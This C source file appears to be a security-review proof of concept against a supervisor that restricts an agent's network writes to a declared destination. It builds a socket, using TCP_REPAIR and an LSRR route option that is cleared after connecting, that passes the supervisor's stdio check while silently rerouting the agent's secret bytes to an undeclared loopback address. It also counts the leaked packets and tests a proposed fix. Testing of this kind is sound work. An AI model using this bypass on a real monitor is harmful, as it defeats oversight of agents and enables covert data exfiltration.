/*
 * ha10-stdio.c (review h-attack10): a TCP socket on stdin, connected to the
 * declared destination, that passes the stdio check (TCP, no IP options,
 * no IPv6 routing header) and still sends the agent's write() elsewhere.
 *
 *   ha10-stdio run SV MODE    (as root, in a network namespace of its own:
 *                              see ha10-stdio.sh)
 *
 * A TCP listener on 127.0.0.1:4471 (declared), a raw IPPROTO_TCP socket
 * bound to 127.0.0.2 (undeclared: it receives every TCP segment whose IP
 * destination is 127.0.0.2) and an AF_PACKET counter on lo. A caller
 * prepares descriptor 0 by MODE and runs
 *     SV --no-loopback --allow 127.0.0.1:4471 --report /tmp/ha10/report.json
 *        -- (this program) agent
 * The agent only write()s "agent-secret" to descriptor 0 (never trapped).
 * MODE:
 *   plain         connect(127.0.0.1:4471) (control)
 *   lsrr-cleared  TCP_REPAIR on, IP_OPTIONS = LSRR via 127.0.0.2,
 *                 connect(127.0.0.1:4471), IP_OPTIONS cleared, TCP_REPAIR
 *                 off: getsockopt(IP_OPTIONS) reads
 *                 back empty, but tcp_v4_connect routed the connection's
 *                 flow (inet->cork.fl) to the first hop, and
 *                 __ip_queue_xmit copies that flow's daddr into every
 *                 segment (ip_copy_addrs) while its cached route lives
 *   lsrr-cleared-tos  the same, then an IP_TOS round trip (0x10, then 0),
 *                 as the proposed fix would do before the agent runs
 *   v6mapped      an AF_INET6 TCP socket connected to ::ffff:127.0.0.1:4471
 *                 (false-red check: must be accepted)
 *   v6mapped-lsrr-cleared  the same as lsrr-cleared on that AF_INET6 socket
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <linux/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define DECL_PORT 4471

static struct sockaddr_in sin_of(const char *ip, int port)
{
	struct sockaddr_in s = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};

	inet_pton(AF_INET, ip, &s.sin_addr);
	return s;
}

static int agent(void)
{
	ssize_t r = write(0, "agent-secret", 12);

	fprintf(stderr, "agent: write(0) = %zd (%s)\n", r, r < 0 ? strerror(errno) : "ok");
	usleep(300 * 1000);
	return 0;
}

static char self[4096];

static void die(const char *what)
{
	perror(what);
	exit(2);
}

static void caller(const char *sv, const char *mode)
{
	int v6 = strncmp(mode, "v6mapped", 8) == 0;
	int lsrr = strstr(mode, "lsrr-cleared") != NULL;
	int s = socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
	unsigned char opt[40];
	socklen_t ol = sizeof(opt);

	if (s < 0)
		die("socket");
	/* Repair mode (CAP_NET_ADMIN, which a root caller has): connect()
	 * establishes without a handshake, so no source-routed SYN has to be
	 * accepted anywhere; the route is chosen exactly as for a real
	 * connect. */
	if (lsrr && setsockopt(s, IPPROTO_TCP, TCP_REPAIR, &(int){1}, sizeof(int)) != 0)
		die("TCP_REPAIR");
	if (lsrr) {
		/* NOP, LSRR len 7 ptr 4, hop 127.0.0.2; the final hop is the
		 * connected 127.0.0.1 (ip_options_get appends it as faddr). */
		unsigned char o[8] = {IPOPT_NOP, IPOPT_LSRR, 7, 4, 127, 0, 0, 2};

		if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, o, sizeof(o)) != 0)
			die("IP_OPTIONS");
	}
	if (v6) {
		struct sockaddr_in6 d = {.sin6_family = AF_INET6, .sin6_port = htons(DECL_PORT)};

		inet_pton(AF_INET6, "::ffff:127.0.0.1", &d.sin6_addr);
		if (connect(s, (struct sockaddr *)&d, sizeof(d)) != 0)
			die("connect6");
	} else {
		struct sockaddr_in d = sin_of("127.0.0.1", DECL_PORT);

		if (connect(s, (struct sockaddr *)&d, sizeof(d)) != 0)
			die("connect");
	}
	if (lsrr) {
		/* A send window, as a handshake would have given. */
		struct tcp_repair_window w = {
		    .snd_wnd = 65535, .max_window = 65535, .rcv_wnd = 65535};

		if (setsockopt(s, IPPROTO_TCP, TCP_REPAIR_WINDOW, &w, sizeof(w)) != 0)
			die("TCP_REPAIR_WINDOW");
	}
	if (lsrr && setsockopt(s, IPPROTO_IP, IP_OPTIONS, NULL, 0) != 0)
		die("IP_OPTIONS clear");
	if (lsrr && setsockopt(s, IPPROTO_TCP, TCP_REPAIR, &(int){0}, sizeof(int)) != 0)
		die("TCP_REPAIR off");
	if (strstr(mode, "-tos") &&
	    (setsockopt(s, IPPROTO_IP, IP_TOS, &(int){0x10}, sizeof(int)) != 0 ||
	     setsockopt(s, IPPROTO_IP, IP_TOS, &(int){0}, sizeof(int)) != 0))
		die("IP_TOS");
	if (getsockopt(s, IPPROTO_IP, IP_OPTIONS, opt, &ol) != 0)
		die("getsockopt IP_OPTIONS");
	fprintf(stderr, "caller: IP_OPTIONS reads back %u byte(s)\n", (unsigned)ol);
	if (dup2(s, 0) != 0)
		die("dup2");
	close(s);
	execl(sv, sv, "--no-loopback", "--allow", "127.0.0.1:4471", "--report",
	      "/tmp/ha10/report.json", "--", self, "agent", (char *)NULL);
	die("exec");
}

static void drain_tcp(int lfd)
{
	char buf[256];
	int total = 0, c;

	while ((c = accept(lfd, NULL, NULL)) >= 0) {
		ssize_t r;

		while ((r = recv(c, buf, sizeof(buf) - 1, MSG_DONTWAIT)) > 0) {
			buf[r] = '\0';
			printf("  declared listener got: \"%s\"\n", buf);
			total += (int)r;
		}
		close(c);
	}
	printf("  declared listener 127.0.0.1:4471: %d byte(s)\n", total);
}

static void drain_raw(int rfd)
{
	unsigned char buf[4096];
	int n = 0;
	ssize_t r;

	while ((r = recv(rfd, buf, sizeof(buf), MSG_DONTWAIT)) > 0)
		if (memmem(buf, (size_t)r, "agent-secret", 12))
			n++;
	printf(
	    "  undeclared 127.0.0.2 (raw TCP receiver): %d segment(s) holding the agent's bytes\n",
	    n);
}

static void count_lo(int pfd)
{
	unsigned char buf[4096];
	int n = 0, opts = 0, decl = 0;
	ssize_t r;

	while ((r = recv(pfd, buf, sizeof(buf), MSG_DONTWAIT)) > 0) {
		struct iphdr *ip = (struct iphdr *)(buf + 14);

		if (r < 34 || buf[12] != 0x08 || buf[13] != 0x00)
			continue;
		if (!memmem(buf, (size_t)r, "agent-secret", 12))
			continue;
		if (ip->daddr == htonl(0x7f000001))
			decl++;
		if (ip->daddr != htonl(0x7f000002))
			continue;
		n++;
		opts += ip->ihl > 5;
	}
	printf("  lo: %d packet(s) with IP destination 127.0.0.1 holding the agent's bytes\n",
	       decl);
	printf(
	    "  lo: %d packet(s) with IP destination 127.0.0.2 holding the agent's bytes (%d with "
	    "IP options)\n",
	    n, opts);
}

int main(int argc, char **argv)
{
	struct sockaddr_in ls = sin_of("127.0.0.1", DECL_PORT), rs = sin_of("127.0.0.2", 0);
	int lfd, rfd, pfd, st, one = 1;
	pid_t pid;

	if (argc >= 2 && strcmp(argv[1], "agent") == 0)
		return agent();
	if (argc != 4 || strcmp(argv[1], "run") != 0) {
		fprintf(stderr, "usage: ha10-stdio run SV plain|lsrr-cleared|v6mapped|"
				"v6mapped-lsrr-cleared\n");
		return 2;
	}
	if (!realpath("/proc/self/exe", self))
		return 2;
	lfd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&ls, sizeof(ls)) != 0 || listen(lfd, 8) != 0)
		die("listener");
	rfd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
	if (rfd < 0 || bind(rfd, (struct sockaddr *)&rs, sizeof(rs)) != 0)
		die("raw");
	pfd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (pfd >= 0) {
		struct sockaddr_ll ll = {.sll_family = AF_PACKET,
					 .sll_protocol = htons(ETH_P_ALL),
					 .sll_ifindex = (int)if_nametoindex("lo")};

		if (bind(pfd, (struct sockaddr *)&ll, sizeof(ll)) != 0)
			perror("bind AF_PACKET");
	}
	if (system("mkdir -p /tmp/ha10 && rm -f /tmp/ha10/report.json") != 0)
		return 2;
	pid = fork();
	if (pid == 0) {
		close(lfd);
		close(rfd);
		close(pfd);
		caller(argv[2], argv[3]);
	}
	waitpid(pid, &st, 0);
	usleep(200 * 1000);
	printf("mode %s: supervisor exit %d\n", argv[3], WIFEXITED(st) ? WEXITSTATUS(st) : -1);
	if (system("python3 -c 'import json; r=json.load(open(\"/tmp/ha10/report.json\")); "
		   "print(\"  verdict\", r[\"verdict\"], \"-\", r[\"reason\"])'") != 0)
		printf("  (no report)\n");
	drain_tcp(lfd);
	drain_raw(rfd);
	if (pfd >= 0)
		count_lo(pfd);
	return 0;
}
